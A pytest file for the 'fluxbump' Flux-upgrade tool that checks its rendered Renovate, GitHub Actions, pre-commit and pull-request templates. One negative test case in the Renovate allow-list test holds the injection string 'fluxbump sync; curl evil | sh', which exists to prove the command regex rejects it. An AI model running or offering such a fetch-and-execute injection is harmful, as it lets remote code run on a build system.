"""The files of ``templates/`` and ``.pre-commit-hooks.yaml``: they render, parse, and say
what the tools reading them (Renovate, GitHub Actions, pre-commit, the forge) expect."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest
from ruamel.yaml import YAML

from fluxbump.errors import UsageError
from fluxbump.render import (
    PrContent,
    PrEdit,
    TemplateError,
    edits_table,
    placeholders,
    render,
    render_pr,
    render_text,
)
from fluxbump.templates_dir import read_template
from tests.cli_runner import run_cli

ROOT = Path(__file__).resolve().parent.parent
TEMPLATES = ROOT / "templates"
GLOB = "**/*.tftpl"
INSTALL_URL = "https://github.com/fluxcd/flux2/releases/download/v2.4.0/install.yaml"
SYNC_FILES = ["**/Chart.yaml", "**/values.yaml", "**/blueprint.yaml", "clusters/**/*.yaml"]
# Placeholders each string.Template file takes (commit-message.txt uses str.format, not here).
PLACEHOLDERS = {
    "commit-message.txt": {
        "summary",
        "flux_release",
        "upstream",
        "chart_version",
        "index",
        "changes",
        "fluxbump_version",
    },
    "fluxbump.yaml": {"wrapper", "upstream", "cloudinit", "values_mirror", "summary"},
    "renovate.json": {"cloudinit_glob"},
    "renovate-admin.txt": {"cloudinit_glob"},
    "ci-workflow.yaml": set(),
    "pr-title.txt": {"release", "chart"},
    "pr-body.md": {
        "release",
        "chart",
        "from_release",
        "from_chart",
        "edits_table",
        "stale_mentions",
        "gate_result",
        "crd_summary",
    },
}


def _yaml(text: str) -> Any:
    return YAML(typ="safe", pure=True).load(text)


def _py_regex(renovate_regex: str) -> re.Pattern[str]:
    """Renovate (RE2/ECMAScript) ``(?<name>…)`` -> Python ``(?P<name>…)``."""
    return re.compile(renovate_regex.replace("(?<", "(?P<"))


# --- render ----------------------------------------------------------------------------


def test_render_is_strict_about_missing_values() -> None:
    with pytest.raises(TemplateError, match=r"\$chart"):
        render("pr-title.txt", release="2.4.0")


def test_render_text_keeps_dollar_escapes_and_rejects_bad_placeholders() -> None:
    assert render_text("$$x ${a}-$b", a="1", b="$2") == "$x 1-$2"
    with pytest.raises(TemplateError):
        render_text("${{ secrets.X }}")


def test_missing_template_is_a_usage_error() -> None:
    with pytest.raises(UsageError, match=r"nope\.txt"):
        render("nope.txt")


@pytest.mark.parametrize("name", sorted(PLACEHOLDERS))
def test_every_template_declares_exactly_its_placeholders(name: str) -> None:
    assert (TEMPLATES / name).is_file()
    assert placeholders(name) == PLACEHOLDERS[name]
    rendered = render(name, **{key: f"<{key}>" for key in PLACEHOLDERS[name]})
    for key in PLACEHOLDERS[name]:
        assert f"<{key}>" in rendered


def test_no_template_is_left_untested() -> None:
    names = {p.name for p in TEMPLATES.iterdir() if p.is_file()}
    assert names == set(PLACEHOLDERS)


# --- Renovate --------------------------------------------------------------------------


@pytest.fixture
def renovate() -> dict[str, Any]:
    config: dict[str, Any] = json.loads(render("renovate.json", cloudinit_glob=GLOB))
    return config


def test_renovate_custom_manager(renovate: dict[str, Any]) -> None:
    assert renovate["$schema"] == "https://docs.renovatebot.com/renovate-schema.json"
    (manager,) = renovate["customManagers"]
    assert manager["customType"] == "regex"
    assert manager["managerFilePatterns"] == [GLOB]
    assert "fileMatch" not in manager  # the legacy, regex-only name
    assert manager["datasourceTemplate"] == "github-releases"
    assert manager["depNameTemplate"] == "fluxcd/flux2"
    (pattern,) = manager["matchStrings"]
    match = _py_regex(pattern).search(f"runcmd:\n  - kubectl apply -f {INSTALL_URL}\n")
    assert match is not None
    assert match["currentValue"] == "v2.4.0"
    assert _py_regex(pattern).search(INSTALL_URL.replace("github.com", "github-com")) is None


def test_renovate_post_upgrade_task(renovate: dict[str, Any]) -> None:
    (rule,) = renovate["packageRules"]
    assert rule["matchDepNames"] == ["fluxcd/flux2"]
    assert rule["matchDatasources"] == ["github-releases"]
    task = rule["postUpgradeTasks"]
    assert task["commands"] == ["fluxbump sync --from cloud-init"]
    assert task["fileFilters"] == SYNC_FILES
    assert task["executionMode"] == "branch"


def test_renovate_admin_note_allows_exactly_the_sync_commands(renovate: dict[str, Any]) -> None:
    text = render("renovate-admin.txt", cloudinit_glob=GLOB)
    line = next(ln for ln in text.splitlines() if ln.strip().startswith('"allowedCommands"'))
    allowed = json.loads("{" + line.strip() + "}")["allowedCommands"]
    assert allowed == ["^fluxbump sync( --from (cloud-init|chart))?$"]
    assert "allowedPostUpgradeCommands" in text  # the name older Renovate releases read
    assert "fileMatch" in text and "managerFilePatterns" in text
    pattern = re.compile(allowed[0])
    for command in renovate["packageRules"][0]["postUpgradeTasks"]["commands"]:
        assert pattern.search(command)
    for command in ("fluxbump sync", "fluxbump sync --from chart"):
        assert pattern.search(command)
    for command in (
        "fluxbump sync; curl evil | sh",
        "fluxbump sync --from elsewhere",
        "x fluxbump sync",
    ):
        assert not pattern.search(command)


# --- GitHub Actions --------------------------------------------------------------------


def test_ci_workflow() -> None:
    text = render("ci-workflow.yaml")
    workflow = _yaml(text)
    triggers = workflow["on"]
    assert len(triggers["schedule"][0]["cron"].split()) == 5
    assert "workflow_dispatch" in triggers
    assert workflow["permissions"] == {"contents": "write", "pull-requests": "write"}
    (job,) = workflow["jobs"].values()
    steps = job["steps"]
    checkout = next(s for s in steps if str(s.get("uses", "")).startswith("actions/checkout@"))
    assert checkout["with"]["fetch-depth"] == 0
    python = next(s for s in steps if str(s.get("uses", "")).startswith("actions/setup-python@"))
    assert python["with"]["python-version"] == "3.12"
    runs = [s.get("run", "") for s in steps]
    assert any("pip install fluxbump" in r for r in runs)
    assert any("git config user.name" in r and "git config user.email" in r for r in runs)
    bump = next(s for s in steps if "fluxbump to latest" in s.get("run", ""))
    assert bump["run"] == "fluxbump to latest --push --open-pr --json"
    assert bump["env"]["GITHUB_TOKEN"] == "${{ secrets.GITHUB_TOKEN }}"


# --- pre-commit ------------------------------------------------------------------------

# The keys pre-commit documents for a hook in .pre-commit-hooks.yaml (https://pre-commit.com/#new-hooks).
PRE_COMMIT_KEYS = {
    "id",
    "name",
    "entry",
    "language",
    "files",
    "exclude",
    "types",
    "types_or",
    "exclude_types",
    "always_run",
    "fail_fast",
    "verbose",
    "pass_filenames",
    "require_serial",
    "description",
    "language_version",
    "minimum_pre_commit_version",
    "args",
    "stages",
}


def test_pre_commit_hook_manifest() -> None:
    hooks = _yaml((ROOT / ".pre-commit-hooks.yaml").read_text("utf-8"))
    (hook,) = hooks
    assert set(hook) <= PRE_COMMIT_KEYS
    assert hook["id"] == "fluxbump-check"
    assert hook["name"]
    assert hook["entry"] == "fluxbump check --offline"
    assert hook["language"] == "python"
    assert hook["pass_filenames"] is False
    assert hook["always_run"] is True


# --- pull request title and body ------------------------------------------------------

EDITS = (
    PrEdit("cloud-init/flux.tftpl", 12, "install-url", "cloud-init", "v2.3.0", "v2.4.0"),
    PrEdit("charts/platform/Chart.yaml", 9, "dependency", "platform", "2.13.0", "2.14.1"),
    PrEdit("clusters/prod/flux.yaml", 31, "helmrelease", "flux-system", "2.13.*", "2.14.1"),
    PrEdit("charts/odd|name/values.yaml", 4, "values", "x|y", "a`b", "$new"),
)


@pytest.fixture
def pr() -> tuple[str, str]:
    return render_pr(
        PrContent(
            release="v2.4.0",
            chart="2.14.1",
            from_release="2.3.0",
            from_chart="2.13.0",
            edits=EDITS,
            stale_mentions=("docs/upgrade.md:14 mentions Flux v2.3.0", "  "),
            gate_result="gate: 0 violations (4 pin-sites agree on Flux v2.4.0)",
        )
    )


def test_pr_title(pr: tuple[str, str]) -> None:
    assert pr[0] == "fluxbump: Flux v2.4.0 (flux2 chart 2.14.1)"


def test_pr_body_has_mapping_every_edit_and_the_warning(pr: tuple[str, str]) -> None:
    body = pr[1]
    assert "| from | v2.3.0 | 2.13.0 |" in body
    assert "| to | v2.4.0 | 2.14.1 |" in body
    assert "vv" not in body
    assert (
        "| `cloud-init/flux.tftpl` | 12 | install-url | cloud-init | `v2.3.0` | `v2.4.0` |" in body
    )
    assert (
        "| `charts/platform/Chart.yaml` | 9 | dependency | platform | `2.13.0` | `2.14.1` |" in body
    )
    assert (
        "| `clusters/prod/flux.yaml` | 31 | helmrelease | flux-system | `2.13.*` | `2.14.1` |"
        in body
    )
    assert "| `charts/odd\\|name/values.yaml` | 4 | values | x\\|y | `` a`b `` | `$new` |" in body
    table = [ln for ln in body.splitlines() if ln.startswith("| `")]
    assert len(table) == len(EDITS)
    assert all(ln.count(" | ") == 5 for ln in table)  # escaped pipes split no cell
    assert "- docs/upgrade.md:14 mentions Flux v2.3.0" in body
    assert "gate: 0 violations" in body
    assert "Double-install hazard" in body
    assert "appVersion" in body and "install.yaml" in body
    assert "rollback" in body and "deletes the Flux controllers" in body


def test_pr_body_when_nothing_to_list() -> None:
    _, body = render_pr(PrContent("2.4.0", "2.14.1", "2.4.0", "2.14.1"))
    assert "_No pin-site changed._" in body
    assert "_None._" in body
    assert "_Not run._" in body


def test_multi_line_gate_output_is_fenced() -> None:
    content = PrContent("2.4.0", "2.14.1", "2.3.0", "2.13.0", gate_result="ok: a\nfail: b\n")
    assert "```text\nok: a\nfail: b\n```" in render_pr(content)[1]


def test_edits_table_shape() -> None:
    lines = edits_table(EDITS[:1]).splitlines()
    assert lines[0] == "| File | Line | Role | Owner | From | To |"
    assert lines[1].startswith("| --- |")
    assert len(lines) == 3


def test_read_template_finds_the_checkout_templates() -> None:
    assert read_template("pr-title.txt") == (TEMPLATES / "pr-title.txt").read_text("utf-8")


def test_renovate_config_command_prints_json_with_the_repo_glob(tmp_path: Path) -> None:
    (tmp_path / ".fluxbump.yaml").write_text("cloudinit: ['bootstrap/**/*.tftpl']\n")
    outcome = run_cli("renovate-config", "--repo", str(tmp_path))
    assert outcome.code == 0
    snippet = json.loads(outcome.stdout)
    assert snippet["customManagers"][0]["managerFilePatterns"] == ["bootstrap/**/*.tftpl"]
    assert "allowedCommands" in outcome.stderr


def test_ci_workflow_command_prints_the_workflow() -> None:
    outcome = run_cli("ci-workflow")
    workflow = YAML(typ="safe").load(outcome.stdout)
    steps = workflow["jobs"]["bump"]["steps"]
    assert any(s.get("run", "").startswith("fluxbump to latest --push --open-pr") for s in steps)
